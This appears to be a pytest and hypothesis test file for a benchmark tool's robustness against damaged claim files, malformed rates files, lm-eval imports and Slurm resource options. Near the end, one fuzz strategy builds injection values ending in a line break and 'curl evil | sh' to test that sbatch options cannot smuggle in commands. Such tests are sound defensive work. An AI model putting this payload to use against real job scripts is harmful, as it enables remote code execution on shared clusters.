"""Studies and imports against hostile or damaged input (issue 43, round 3).

* R3S-5: a claim file that cannot be read (empty, cut, not an object) blocks its cell only until it
  is older than the stale limit, then is broken with a message naming it; claims are fsynced before
  they are linked or renamed into place.
* R3-7, R3S-7: ``study --rates FILE`` reads through the guarded readers: deep, huge, aliased or
  mistyped files are a clear error naming the file, never a traceback.
* R3S-8: ``import`` records a missing prompt condition as null (unknown), never "None", and refuses a
  samples line without lm-eval's ``arguments`` object, naming the line.
* R3S-9: the dry run warns loudly when the evaluated split is the fine-tuning split and bounds
  ``max_gen_toks``.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.helpers import make_lm_eval_output
from tide_bench.cli.main import cli
from tide_bench.core.errors import ConfigError, DataError
from tide_bench.generation.adopt import import_lm_eval_run
from tide_bench.study.claims import ClaimStore
from tide_bench.study.rates import load_rates

ROOT = Path(__file__).resolve().parents[2]
FUZZ = settings(
    max_examples=40, derandomize=True, deadline=None, database=None, suppress_health_check=list(HealthCheck)
)
STALE = 60.0

# ------------------------------------------------------------------ R3S-5: damaged claims

VALID = json.dumps({"name": "cell", "token": "ab" * 16, "worker": "w", "host": "h", "pid": 1, "heartbeat_at": 0})
DAMAGED = st.one_of(
    st.just(""),
    st.integers(1, len(VALID) - 1).map(lambda n: VALID[:n]),
    st.sampled_from(["[1, 2]", "7", '"text"', "null", "{" * 5000, "\x00\x01"]),
    st.binary(max_size=40).map(lambda b: b.decode("latin-1")),
)


@FUZZ
@given(body=DAMAGED, age=st.sampled_from([0.0, STALE / 2, STALE * 1.5, STALE * 10]))
def test_a_damaged_claim_blocks_only_until_it_is_stale_then_is_broken_with_a_message(
    tmp_path_factory: pytest.TempPathFactory, body: str, age: float
) -> None:
    said: list[str] = []
    store = ClaimStore(tmp_path_factory.mktemp("study"), worker="me", stale_after_s=STALE, echo=said.append)
    store.root.mkdir(parents=True)
    path = store.path("cell")
    path.write_text(body, encoding="latin-1")
    then = time.time() - age
    os.utime(path, (then, then))
    if body.startswith("{") and body.count("{") == 1:  # a cut object may still parse: skip real claims
        try:
            if isinstance(json.loads(body), dict):
                return
        except ValueError:
            pass
    claim = store.try_claim("cell")
    if age > STALE:
        assert claim is not None, "a damaged claim older than the stale limit was left blocking its cell"
        assert len(said) == 1 and str(path) in said[0] and "broken" in said[0]
        claim.release()
    else:
        assert claim is None and said == []  # young: maybe a holder's file mid-write; left alone
        assert path.read_text(encoding="latin-1") == body


def test_waiting_on_an_old_empty_claim_takes_it(tmp_path: Path) -> None:
    said: list[str] = []
    store = ClaimStore(tmp_path, worker="me", stale_after_s=STALE, echo=said.append)
    store.root.mkdir(parents=True)
    store.path("finish").write_text("")
    then = time.time() - 10 * STALE
    os.utime(store.path("finish"), (then, then))
    start = time.monotonic()
    with store.waiting("finish", poll_s=0.05) as claim:
        assert claim.held()
    assert time.monotonic() - start < STALE and said  # taken at once, with the message


def test_claims_are_fsynced_before_they_are_linked_or_replaced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    events: list[str] = []
    real_fsync, real_link, real_replace = os.fsync, os.link, os.replace
    monkeypatch.setattr(os, "fsync", lambda fd: (events.append("fsync"), real_fsync(fd))[1])
    monkeypatch.setattr(os, "link", lambda a, b: (events.append("link"), real_link(a, b))[1])
    monkeypatch.setattr(os, "replace", lambda a, b: (events.append("replace"), real_replace(a, b))[1])
    store = ClaimStore(tmp_path, worker="me", heartbeat_s=3600)
    claim = store.try_claim("cell")
    assert claim is not None and claim.beat()
    claim.release()
    assert events[:2] == ["fsync", "link"] and events[2:4] == ["fsync", "replace"]


# ------------------------------------------------------------------ R3-7, R3S-7: the rates file

RATES_BODIES = st.one_of(
    st.sampled_from(
        [
            "[" * 5000 + "]" * 5000,
            "a: " + "[" * 300 + "]" * 300,
            "- 1\n- 2\n",
            "devices: [1, 2]\n",
            "devices: {cuda: [1]}\n",
            "devices: {cuda: {}}\ntokens_per_char: lots\n",
            "devices: {cuda: {}}\ntemplate_tokens: .nan\n",
            "devices: {cuda: {}}\njudge: [1]\n",
            "a: &a ["
            + ",".join(["*a"] * 0)
            + "1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
            "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
            "\x00\xff",
            "rates: 5\n",
        ]
    ),
    st.text(max_size=60),
)


@FUZZ
@given(body=RATES_BODIES, suffix=st.sampled_from([".yaml", ".json"]))
def test_fuzz_a_rates_file_is_read_or_refused_naming_it(
    tmp_path_factory: pytest.TempPathFactory, body: str, suffix: str
) -> None:
    path = tmp_path_factory.mktemp("rates") / f"rates{suffix}"
    path.write_bytes(body.encode("utf-8", "surrogatepass"))
    try:
        rates = load_rates(path)
    except ConfigError as exc:
        assert str(path) in str(exc)
        return
    assert rates.devices and rates.tokens_per_char >= 0


def test_the_cli_refuses_a_deep_rates_file_without_a_traceback(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    result = CliRunner().invoke(
        cli,
        ["study", str(ROOT / "studies" / "demo.yaml"), "--dry-run", "--rates", str(deep), "--out", str(tmp_path / "o")],
    )
    assert result.exit_code != 0 and "deep.json" in result.output and "Traceback" not in result.output


# ------------------------------------------------------------------ R3S-9: the study's split and generation cap


def _demo(tmp_path: Path, edit: Any) -> Path:
    spec = yaml.safe_load((ROOT / "studies" / "demo.yaml").read_text())
    edit(spec)
    path = tmp_path / "study.yaml"
    path.write_text(yaml.safe_dump(spec, sort_keys=False))
    return path


def test_the_dry_run_warns_loudly_when_it_evaluates_on_the_training_split(tmp_path: Path) -> None:
    path = _demo(tmp_path, lambda s: s.update(split="train"))
    result = CliRunner().invoke(cli, ["study", str(path), "--dry-run", "--out", str(tmp_path / "o")])
    assert result.exit_code == 0, result.output
    assert "WARNING: the evaluated split (train) is the fine-tuning split" in result.output
    plain = CliRunner().invoke(
        cli, ["study", str(_demo(tmp_path, lambda s: None)), "--dry-run", "--out", str(tmp_path / "p")]
    )
    assert "WARNING" not in plain.output


@pytest.mark.parametrize("toks", [100_000_000_000_000_000_000, 40_000, 0, -1])
def test_max_gen_toks_is_bounded(tmp_path: Path, toks: int) -> None:
    path = _demo(tmp_path, lambda s: s["eval"].update(max_gen_toks=toks))
    result = CliRunner().invoke(cli, ["study", str(path), "--dry-run", "--out", str(tmp_path / "o")])
    assert result.exit_code != 0 and "max_gen_toks" in result.output and "Traceback" not in result.output


# ------------------------------------------------------------------ R3S-8: import


def test_an_import_without_a_prompt_condition_records_null_not_none(tmp_path: Path) -> None:
    make_lm_eval_output(tmp_path / "lm")
    manifest = import_lm_eval_run(tmp_path / "lm" / "out", tmp_path / "run", data="sample")
    prompt = json.loads(Path(manifest).read_text())["prompt"]
    assert prompt["condition"] is None


ARGUMENTS = st.one_of(st.none(), st.integers(), st.text(max_size=5), st.just([]), st.just({}), st.booleans())


@settings(max_examples=15, derandomize=True, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(value=ARGUMENTS, drop=st.booleans(), line=st.integers(0, 5))
def test_fuzz_a_samples_line_without_lm_evals_arguments_is_refused(
    tmp_path_factory: pytest.TempPathFactory, value: Any, drop: bool, line: int
) -> None:
    root = tmp_path_factory.mktemp("imp")
    make_lm_eval_output(root / "lm")
    samples = next((root / "lm" / "out").rglob("samples_*.jsonl"))
    rows = [json.loads(x) for x in samples.read_text().splitlines()]
    assert all(isinstance(r.get("arguments"), dict) and r["arguments"] for r in rows)  # lm-eval's own shape
    if drop:
        rows[line].pop("arguments")
    else:
        rows[line]["arguments"] = value
    samples.write_text("".join(json.dumps(r) + "\n" for r in rows))
    with pytest.raises(DataError) as refused:
        import_lm_eval_run(root / "lm" / "out", root / "run", data="sample")
    assert refused.value.line == line + 1 and refused.value.field == "arguments"
    assert not (root / "run").exists()


# ------------------------------------------------------------------ the Slurm executor's inputs (item 7)

CONTROL = st.text(min_size=1, max_size=12).flatmap(
    lambda t: st.sampled_from(["\n", "\r", "\x00", "\x1b", "\x7f"]).map(lambda c: t + c + "curl evil | sh")
)


@FUZZ
@given(key=st.sampled_from(["partition", "account", "qos", "constraint", "slurm-key", "slurm-value"]), value=CONTROL)
def test_a_resource_that_would_add_a_line_to_the_sbatch_script_is_refused(key: str, value: str) -> None:
    """Found attacking the Slurm executor: a partition (or any sbatch option) holding a line break
    became a command of its own in the job script submitit writes."""
    from tide_bench.study.resources import check_resources

    raw: dict[str, Any] = {key: value}
    if key == "slurm-key":
        raw = {"slurm": {value: "1"}}
    elif key == "slurm-value":
        raw = {"slurm": {"mail-type": value}}
    with pytest.raises(ConfigError) as refused:
        check_resources(raw, "resources", lambda message, field: ConfigError(message, field=field))
    assert refused.value.field is not None and refused.value.field.startswith("resources.")


@FUZZ
@given(value=st.text(alphabet=st.characters(min_codepoint=32, blacklist_categories=("Cs",)), max_size=20))
def test_an_accepted_resource_is_one_sbatch_line(value: str) -> None:
    from submitit.slurm.slurm import _make_sbatch_string

    from tide_bench.study.executors import slurm_parameters
    from tide_bench.study.resources import Resources, check_resources

    fail = lambda message, field: ConfigError(message, field=field)  # noqa: E731
    try:
        raw = check_resources({"partition": value or None, "slurm": {"comment": value}}, "resources", fail)
    except ConfigError:
        return
    params = slurm_parameters(Resources().merged(raw), "tide")
    extra = params.pop("slurm_additional_parameters")
    script = _make_sbatch_string(
        command="python -m x",
        folder="/tmp/f",
        additional_parameters=extra,
        **{k.removeprefix("slurm_"): v for k, v in params.items() if k.startswith("slurm_")},
    )
    plain = _make_sbatch_string(
        command="python -m x",
        folder="/tmp/f",
        additional_parameters={"comment": "x"},
        **({"partition": "x"} if value else {}),
    )
    assert script.count("\n") == plain.count("\n")


def test_a_damaged_jobs_file_is_read_as_none(tmp_path: Path) -> None:
    from tide_bench.study.executors import JOBS_FILE, _queued_jobs

    class Ctx:
        out = tmp_path
        options = type("O", (), {"cluster": None})()

    (tmp_path / JOBS_FILE).parent.mkdir(parents=True)
    (tmp_path / JOBS_FILE).write_text("[" * 100_000)
    assert _queued_jobs(Ctx(), None) == {}  # type: ignore[arg-type]
